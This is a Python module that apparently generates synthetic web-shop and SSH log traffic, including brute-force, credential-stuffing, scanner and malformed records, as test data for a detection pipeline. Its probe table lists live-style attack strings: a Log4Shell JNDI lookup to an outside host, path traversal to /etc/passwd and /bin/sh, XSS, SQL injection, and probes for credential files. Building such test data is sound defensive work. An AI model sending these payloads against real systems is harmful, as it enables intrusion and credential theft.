def _browsing(rng: random.Random, world: _World) -> Iterator[_Draft]:
    # Several visits run at once, so their requests interleave as they do in a real log.
    def new_session() -> Iterator[_Request]:
        if rng.random() < 0.03:
            return _staff_session(rng, world, rng.choice(world.staff))
        visitor = rng.choices(world.visitors, weights=world.visitor_weights)[0]
        return _session(rng, world, visitor)

    sessions = [new_session() for _ in range(10)]
    side: Iterator[_SshLine] = iter(())
    while True:
        r = rng.random()
        if r < 0.03:
            checker = rng.choice(world.health_checkers)
            yield _Request(checker.ip, "GET", "/healthz", 200, 2, None, checker.user_agent)
            continue
        if r < 0.04:
            line = next(side, None)
            if line is None:
                side = _deploy_ssh(rng, world)
                line = next(side)
            yield line
            continue
        k = rng.randrange(len(sessions))
        for _ in range(2):  # a finished visit is replaced by a new one, which always has a first request
            draft = next(sessions[k], None)
            if draft is not None:
                yield draft
                break
            sessions[k] = new_session()


# --- crawlers --------------------------------------------------------------------------------------------


def _crawl(rng: random.Random, world: _World, ip: str, user_agent: str) -> Iterator[_Request]:
    def request(target: str, status: int = 200, size: int | None = None, method: str = "GET") -> _Request:
        if size is None:
            size = rng.randint(15_000, 90_000) if status == 200 else rng.randint(200, 600)
        return _Request(ip, method, target, status, 0 if method == "HEAD" else size, None, user_agent)

    yield request("/robots.txt", size=312)
    if rng.random() < 0.5:
        yield request("/sitemap.xml", size=1_840)
        yield request(f"/sitemap-{rng.choice(('products', 'categories', 'blog'))}.xml", size=rng.randint(9_000, 40_000))
    for _ in range(rng.randint(5, 40)):
        r = rng.random()
        if r < 0.45:
            target = f"/products/{rng.choice(world.products).slug}"
        elif r < 0.70:
            target = f"/category/{rng.choice(_CATEGORIES)}?page={rng.randint(1, 30)}"
        elif r < 0.80:
            target = f"/blog/{rng.choice(_BLOG)}"
        elif r < 0.85:
            target = f"/help/{rng.choice(_HELP)}"
        elif r < 0.92:
            target = f"/static/img/products/{rng.choice(world.products).slug}-{rng.randint(1, 4)}.webp"
        else:  # links from an old shop version: redirected, or gone
            target = f"/catalog/item.php?id={rng.randint(1, 5000)}"
            yield request(target, status=rng.choice((301, 301, 404)))
            continue
        yield request(
            target, status=404 if rng.random() < 0.03 else 200, method="HEAD" if rng.random() < 0.03 else "GET"
        )


def _crawlers(rng: random.Random, world: _World) -> Iterator[_Draft]:
    bots = [(uas, [_address(rng, rng.choice(nets)) for _ in range(3)]) for _, uas, nets, _ in _BOTS]
    weights = [w for _, _, _, w in _BOTS]

    def new_crawl() -> Iterator[_Request]:
        uas, ips = rng.choices(bots, weights=weights)[0]
        return _crawl(rng, world, rng.choice(ips), rng.choice(uas))

    crawls = [new_crawl() for _ in range(3)]
    while True:
        k = rng.randrange(len(crawls))
        draft = next(crawls[k], None)
        if draft is None:
            crawls[k] = new_crawl()
            draft = next(crawls[k])
        yield draft


# --- brute force -----------------------------------------------------------------------------------------

_SSH_USERS = (
    "root", "root", "root", "admin", "test", "user", "ubuntu", "oracle", "postgres", "git", "ftpuser", "pi", "guest",
    "support", "deploy", "administrator", "jenkins", "hadoop", "minecraft", "ubnt", "dev", "steam", "test1",
)  # fmt: skip
_HOST_USERS = frozenset({"root", "ubuntu", "deploy", "git"})  # accounts that exist on the attacked hosts


def _ssh_guessing(rng: random.Random, ip: str) -> Iterator[_SshLine]:
    """Connection after connection, each trying one user name a few times, in OpenSSH's words."""
    while True:
        pid, port = rng.randint(2_000, 60_000), rng.randint(32_768, 60_999)
        host = rng.choice(("web1", "web1", "bastion"))
        user = rng.choice(_SSH_USERS)
        valid = user in _HOST_USERS
        who = user if valid else f"invalid user {user}"
        attempts = rng.randint(1, 6)

        def line(message: str, pid: int = pid, host: str = host) -> _SshLine:
            return _SshLine(ip, host, pid, message)

        if not valid:
            yield line(f"Invalid user {user} from {ip} port {port}")
        elif rng.random() < 0.5:
            yield line(
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= "
                f"rhost={ip}  user={user}"
            )
        failed = f"Failed password for {who} from {ip} port {port} ssh2"
        if attempts >= 3 and rng.random() < 0.4:
            # rsyslog folds identical consecutive messages: the count hides attempts from naive counters.
            yield line(failed)
            yield line(f"message repeated {attempts - 1} times: [ {failed}]")
        else:
            for _ in range(attempts):
                yield line(failed)
        if attempts == 6:
            closing = f"authenticating user {user}" if valid else who
            yield line(f"Disconnecting {closing} {ip} port {port}: Too many authentication failures [preauth]")
        elif valid:
            yield line(f"Connection closed by authenticating user {user} {ip} port {port} [preauth]")
        else:
            yield line(rng.choice((f"Disconnected from {who} {ip} port {port} [preauth]",
                                   f"Received disconnect from {ip} port {port}:11: Bye Bye [preauth]")))  # fmt: skip


def _credential_stuffing(rng: random.Random, ip: str) -> Iterator[_Request]:
    """Scripted logins against the shop: 401s, a rate limit that kicks in, and WordPress guesses."""
    user_agent = rng.choice(
        (
            "python-requests/2.31.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/120.0.0.0 Safari/537.36",
        )
    )
    referrer = ORIGIN + "/login"
    for n in itertools.count():
        if n % 15 == 0:
            yield _Request(ip, "GET", "/login", 200, rng.randint(9_000, 9_400), None, user_agent)
        r = rng.random()
        if r < 0.08:
            target = rng.choice(("/wp-login.php", "/xmlrpc.php"))
            yield _Request(ip, "POST", target, 404, rng.randint(300, 500), None, user_agent)
        else:
            status = 429 if (n // 40) % 3 == 2 else 401  # throttled for a while every few dozen attempts
            yield _Request(ip, "POST", "/login", status, rng.randint(900, 1100), referrer, user_agent)


def _brute_force(rng: random.Random) -> Iterator[_Draft]:
    ssh = [_ssh_guessing(rng, _address(rng, net)) for net in _SSH_ATTACK_NETS]
    http = _credential_stuffing(rng, _address(rng, _HTTP_ATTACK_NET))
    while True:
        r = rng.random()
        if r < 0.45:
            yield next(ssh[0])
        elif r < 0.75:
            yield next(ssh[1])
        else:
            yield next(http)


# --- scanner ---------------------------------------------------------------------------------------------

_ZGRAB = "Mozilla/5.0 zgrab/0.x"
_NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test:06d})"
_SQLMAP = "sqlmap/1.7.2#stable (https://sqlmap.org)"

# (tool, method, target as sent on the wire, status). A scanner's own payloads; the pipeline must
# URL-decode ("%xx" and "+") before matching, and Apache logs a raw '"' as '\"'.
_PROBES: tuple[tuple[str, str, str, int], ...] = (
    ("zgrab", "GET", "/", 200),
    ("zgrab", "GET", "/.env", 404),
    ("zgrab", "GET", "/.git/config", 404),
    ("zgrab", "GET", "/.aws/credentials", 404),
    ("zgrab", "GET", "/actuator/env", 404),
    ("zgrab", "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("zgrab", "GET", "/?x=$%7Bjndi:ldap://198.51.100.23:1389/a%7D", 200),
    ("nikto", "GET", "/.env.production", 404),
    ("nikto", "GET", "/.git/HEAD", 404),
    ("nikto", "GET", "/wp-admin/", 404),
    ("nikto", "GET", "/wp-login.php", 404),
    ("nikto", "GET", "/phpmyadmin/", 404),
    ("nikto", "GET", "/pma/index.php", 404),
    ("nikto", "GET", "/admin/", 401),
    ("nikto", "GET", "/server-status", 403),
    ("nikto", "HEAD", "/backup.zip", 404),
    ("nikto", "GET", "/config.json", 404),
    ("nikto", "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("nikto", "GET", "/../../etc/passwd", 400),
    ("nikto", "GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404),
    ("nikto", "GET", "/index.php?page=../../../../etc/passwd", 404),
    ("nikto", "GET", '/search?q="><svg/onload=alert(1)>', 200),
    ("nikto", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", 200),
    ("sqlmap", "GET", "/?id=1'+OR+'1'='1", 200),
    ("sqlmap", "GET", "/?id=1%27%20OR%20%271%27%3D%271", 200),
    ("sqlmap", "GET", "/products?id=1%20UNION%20ALL%20SELECT%20NULL,CONCAT(user,0x3a,pass)%20FROM%20users--", 404),
    ("sqlmap", "GET", "/search?q=1%27%29%20AND%20SLEEP%285%29--%20-", 200),
    ("sqlmap", "GET", "/category/sale?page=2%20AND%201=1", 200),
)  # fmt: skip
_SCAN_WORDS = (
    "backup",
    "db",
    "dump",
    "site",
    "old",
    "wp-config",
    "config",
    "database",
    "admin",
    "shell",
    "test",
    "info",
)
_SCAN_EXTS = (".sql", ".sql.gz", ".tar.gz", ".zip", ".bak", ".php", ".php.bak", ".old", "~", ".swp")


def _scanner(rng: random.Random) -> Iterator[_Draft]:
    """One source: a pass through the probe list, then rounds of shuffled probes and guessed file names."""
    ip = _address(rng, _SCANNER_NET)
    test = itertools.count(1)
    probes = list(_PROBES)
    first = True
    while True:
        if not first:
            rng.shuffle(probes)
        first = False
        for tool, method, target, status in probes:
            user_agent = {"zgrab": _ZGRAB, "sqlmap": _SQLMAP}.get(tool) or _NIKTO.format(test=next(test))
            yield _Request(
                ip, method, target, status, 0 if method == "HEAD" else rng.randint(150, 600), None, user_agent
            )
            if rng.random() < 0.5:  # guessed names give many distinct 404 paths
                guess = f"/{rng.choice(_SCAN_WORDS)}{rng.choice(_SCAN_EXTS)}"
                yield _Request(ip, "GET", guess, 404, rng.randint(150, 400), None, _NIKTO.format(test=next(test)))


# --- malformed -------------------------------------------------------------------------------------------

_MALFORMED: tuple[tuple[Reason, float], ...] = (
    (Reason.INVALID_JSON, 25),
    (Reason.INVALID_UTF8, 20),
    (Reason.INVALID_IP, 15),
    (Reason.UNPARSEABLE_LINE, 15),
    (Reason.NOT_AN_OBJECT, 8),
    (Reason.WRONG_TYPE, 7),
    (Reason.MISSING_IP, 5),
    (Reason.EMPTY, 3),
    (Reason.OVERSIZED, 2),
)
_GARBAGE = (
    "\tat org.example.shop.LoginHandler.handle(LoginHandler.java:42)",
    "-",
    "GET / HTTP/1.1",
    "Host: shop.example.com",
    "log rotated, 0 lines lost",
    "<html><body><h1>502 Bad Gateway</h1></body></html>",
)
_BAD_IPS = ("999.1.2.3", "256.300.1.1", "10.0.0", "1.2.3.4.5", "2001:db8::zz", "unknown")


_Build = Callable[[datetime], tuple[bytes, str, str | None]]


def _malformed(rng: random.Random, world: _World) -> Iterator[_Draft]:
    reasons, weights = [r for r, _ in _MALFORMED], [w for _, w in _MALFORMED]
    while True:
        reason = rng.choices(reasons, weights=weights)[0]
        yield _Broken(reason, _breakage(rng, world, reason))


def _breakage(rng: random.Random, world: _World, reason: Reason) -> _Build:
    """A record builder whose output the pipeline must quarantine with ``reason``."""
    visitor = rng.choice(world.visitors)
    req = _Request(visitor.ip, "GET", _page(rng, world), 200, rng.randint(18_000, 92_000), None, visitor.user_agent)
    if reason is Reason.INVALID_JSON:
        cut = rng.randint(20, 120)  # a line cut off by a full disk or a crash
        return lambda t: (_ecs_json(req, t)[:-cut], "ecs_json", req.ip)
    if reason is Reason.INVALID_UTF8:
        # Latin-1 or cut multi-byte text from a client that does not speak UTF-8, written unescaped.
        junk = rng.choice((b"caf\xe9", b"\xff\xfe", b"\xc3\x28"))
        return lambda t: (_apache_combined(req, t)[:-1] + b" " + junk + b'"', "apache_combined", req.ip)
    if reason is Reason.INVALID_IP:
        req.ip = rng.choice(_BAD_IPS)
        if rng.random() < 0.5:
            return lambda t: (_ecs_json(req, t), "ecs_json", req.ip)
        return lambda t: (_apache_combined(req, t), "apache_combined", req.ip)
    if reason is Reason.UNPARSEABLE_LINE:
        text = rng.choice(_GARBAGE).encode("ascii")
        return lambda t: (text, "unknown", None)
    if reason is Reason.NOT_AN_OBJECT:
        copies = rng.randint(1, 2)  # a shipper that batched records into one array
        return lambda t: (orjson.dumps([_ecs_document(req, t)] * copies), "ecs_json", req.ip)
    if reason is Reason.WRONG_TYPE:
        kind = rng.randrange(3)

        def wrong_type(t: datetime) -> tuple[bytes, str, str | None]:
            doc = _ecs_document(req, t)
            if kind == 0:
                # the address as a number (IPv4) or a list: both are what some shippers emit
                ip = ipaddress.ip_address(req.ip)
                doc["source"] = {"ip": int(ip) if ip.version == 4 else [req.ip]}
            elif kind == 1:
                doc["url"] = {"original": [req.target]}
            else:
                doc["http"] = {"request": {"method": "GET"}, "response": {"status_code": "OK"}}
            return orjson.dumps(doc), "ecs_json", req.ip

        return wrong_type
    if reason is Reason.MISSING_IP:

        def missing_ip(t: datetime) -> tuple[bytes, str, str | None]:
            doc = _ecs_document(req, t)
            del doc["source"]  # e.g. a proxy that logs its upstream, not the client
            return orjson.dumps(doc), "ecs_json", None

        return missing_ip
    if reason is Reason.EMPTY:
        return lambda t: (b"", "unknown", None)
    if reason is Reason.OVERSIZED:  # an overflow attempt, longer than the worker's record limit
        req.target = "/search?q=" + "A" * (OVERSIZED_BYTES + rng.randint(1_000, 16_000))
        req.status, req.size = 414, 226
        return lambda t: (_apache_combined(req, t), "apache_combined", req.ip)
    raise AssertionError(f"no malformed record for {reason}")  # _MALFORMED names only the reasons above


# --- the stream ------------------------------------------------------------------------------------------


def _timestamps(rng: random.Random, start: datetime, events_per_second: float) -> Iterator[datetime]:
    step = 1.0 / events_per_second
    for n in itertools.count():
        offset = (n + rng.uniform(-0.4, 0.4)) * step
        if rng.random() < 0.03:
            # A slow request: logged when it ends, stamped with when it began, so it lands out of order.
            offset -= rng.uniform(0.5, 3.0)
        yield start + timedelta(seconds=offset)


def _generate(
    count: int | None,
    rng: random.Random,
    start: datetime,
    events_per_second: float,
    mix: TrafficMix,
    json_share: float,
) -> Iterator[SampleRecord]:
    world = _build_world(rng, start)
    # Each population draws from its own generator so that one population's state (a visit, a crawl, an
    # ssh connection) continues where it left off, whatever the others did in between.
    streams: dict[Population, Iterator[_Draft]] = {
        Population.BROWSING: _browsing(random.Random(rng.getrandbits(64)), world),
        Population.CRAWLERS: _crawlers(random.Random(rng.getrandbits(64)), world),
        Population.BRUTE_FORCE: _brute_force(random.Random(rng.getrandbits(64))),
        Population.SCANNER: _scanner(random.Random(rng.getrandbits(64))),
        Population.MALFORMED: _malformed(random.Random(rng.getrandbits(64)), world),
    }
    populations = list(Population)
    cumulative = list(itertools.accumulate(mix.weights()))
    clock = _timestamps(rng, start, events_per_second)
    for _ in range(count) if count is not None else itertools.count():
        population = rng.choices(populations, cum_weights=cumulative)[0]
        yield _render(next(streams[population]), next(clock), population, rng, json_share)
